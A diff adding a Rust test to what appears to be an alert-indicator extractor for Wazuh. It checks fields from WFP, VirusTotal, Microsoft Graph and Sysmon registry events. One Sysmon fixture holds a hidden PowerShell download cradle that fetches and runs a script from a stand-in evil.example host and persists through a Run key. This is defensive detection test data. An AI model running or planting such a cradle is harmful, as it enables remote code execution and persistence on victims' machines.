@@ -958,3 +958,72 @@ fn every_fixture_is_covered() {
     covered.sort();
     assert_eq!(files, covered);
 }
+
+/// Fields real deployments use that the catalog did not read (issue 23 point
+/// 11): Windows Filtering Platform connections, Wazuh's own VirusTotal
+/// integration alerts, Microsoft Graph security alerts and Sysmon EID 13
+/// registry values. Shapes as those producers write them.
+#[test]
+fn fields_of_wfp_virustotal_ms_graph_and_registry_events_are_read() {
+    let cases: &[(&str, &str, &[(&str, Kind, &str)])] = &[
+        (
+            "Security 5156 (WFP allowed a connection)",
+            r#"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"60100","level":3,"groups":["windows","windows_security"]},"agent":{"id":"002","name":"ws-02"},
+               "data":{"win":{"system":{"eventID":"5156","providerName":"Microsoft-Windows-Security-Auditing"},
+               "eventdata":{"processID":"4","application":"\\\\device\\\\harddiskvolume2\\\\windows\\\\system32\\\\svchost.exe","direction":"%%14593",
+               "sourceAddress":"10.0.4.17","sourcePort":"50112","destAddress":"198.51.100.14","destPort":"443","protocol":"6","layerName":"%%14611"}}}}"#,
+            &[("data.win.eventdata.destAddress", Kind::Ipv4, "198.51.100.14")],
+        ),
+        (
+            "VirusTotal integration (rule 87105)",
+            r#"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"87105","level":12,"groups":["virustotal"]},"agent":{"id":"003","name":"srv"},
+               "data":{"integration":"virustotal","virustotal":{"found":"1","malicious":"1","positives":"41","total":"72",
+               "sha1":"3395856ce81f2b7382dee72602f798b642f14140","permalink":"https://www.virustotal.com/gui/file/275a021b/detection",
+               "source":{"alert_id":"1700000000.1234","file":"/tmp/eicar.com","md5":"44d88612fea8a8f36de82e1278abb02f","sha1":"3395856ce81f2b7382dee72602f798b642f14140"}}}}"#,
+            &[
+                ("data.virustotal.source.sha1", Kind::Sha1, "3395856ce81f2b7382dee72602f798b642f14140"),
+                ("data.virustotal.source.md5", Kind::Md5, "44d88612fea8a8f36de82e1278abb02f"),
+            ],
+        ),
+        (
+            "Microsoft Graph alert_v2 with evidence",
+            r##"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"99502","level":10,"groups":["ms-graph"]},"agent":{"id":"000","name":"manager"},
+               "data":{"integration":"ms-graph","ms-graph":{"id":"da637551227677560813_-961444813","severity":"high","title":"Suspicious connection",
+               "evidence":[{"@odata.type":"#microsoft.graph.security.ipEvidence","ipAddress":"203.0.113.77"},
+                           {"@odata.type":"#microsoft.graph.security.urlEvidence","url":"http://payload.evil.example/a.ps1"},
+                           {"@odata.type":"#microsoft.graph.security.fileEvidence","fileDetails":{"fileName":"a.exe","sha1":"3395856ce81f2b7382dee72602f798b642f14140","sha256":"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"}},
+                           {"@odata.type":"#microsoft.graph.security.deviceEvidence","ipInterfaces":["192.0.2.31","fe80::1"]}]}}}"##,
+            &[
+                ("data.ms-graph.evidence[0].ipAddress", Kind::Ipv4, "203.0.113.77"),
+                ("data.ms-graph.evidence[1].url", Kind::Url, "http://payload.evil.example/a.ps1"),
+                ("data.ms-graph.evidence[2].fileDetails.sha256", Kind::Sha256, "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"),
+                ("data.ms-graph.evidence[2].fileDetails.sha1", Kind::Sha1, "3395856ce81f2b7382dee72602f798b642f14140"),
+                ("data.ms-graph.evidence[3].ipInterfaces[0]", Kind::Ipv4, "192.0.2.31"),
+            ],
+        ),
+        (
+            "Sysmon EID 13 (a Run key set to a download cradle)",
+            r#"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"92302","level":6,"groups":["sysmon","sysmon_eid13_detections"]},"agent":{"id":"004","name":"ws-04"},
+               "data":{"win":{"system":{"eventID":"13"},"eventdata":{"eventType":"SetValue","image":"C:\\\\Windows\\\\System32\\\\reg.exe",
+               "targetObject":"HKU\\\\S-1-5-21-1\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd",
+               "details":"powershell -w hidden -c iwr http://cradle.evil.example/s.ps1 | iex"}}}}"#,
+            &[("data.win.eventdata.details", Kind::Url, "http://cradle.evil.example/s.ps1")],
+        ),
+    ];
+    for (what, alert, want) in cases {
+        let json = parse_alert(alert.as_bytes()).unwrap_or_else(|e| panic!("{what}: {e}"));
+        let got = extract(&json, &test_opts());
+        for (field, kind, value) in *want {
+            assert!(
+                got.candidates
+                    .iter()
+                    .any(|c| c.field == *field && c.kind == *kind && c.value == *value),
+                "{what}: no {kind:?} {value} from {field}; got {:?}",
+                got.candidates
+                    .iter()
+                    .map(|c| (&c.field, c.kind, &c.value))
+                    .collect::<Vec<_>>()
+            );
+        }
+    }
+}
